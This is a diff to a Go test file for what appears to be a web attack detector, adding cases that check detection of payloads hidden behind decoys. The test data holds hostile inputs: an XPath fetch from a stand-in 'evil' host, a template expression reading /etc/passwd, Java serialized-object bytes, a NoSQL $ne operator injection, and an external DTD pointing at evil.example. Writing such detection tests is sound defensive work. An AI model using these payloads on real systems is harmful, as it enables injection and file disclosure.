@@ -173,5 +173,7 @@ func TestKeywordsBehindDecoys(t *testing.T) {
 		{"xpath fetcher", q("q", "doc.doc('x') then doc('http://evil/x')"), "xpath-injection", "xpath-injection"},
 		{"hex java stream", body("v", "xaced0005 payload: aced00057372001b;"), "java-serialized-object", "java-serialized-object"},
 		{"object constructed in a template", body("v", "${renew + new File(\"/etc/passwd\").text}"), "*", "*"},
+		{"operator key after a dollar key", q("user[$x][$ne]", "1"), "nosql-operator", "nosql-operator"},
+		{"external DTD after an HTML one", body("v", "<!DOCTYPE html><!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><x>&a;</x>"), "*", "*"},
 	})
 }
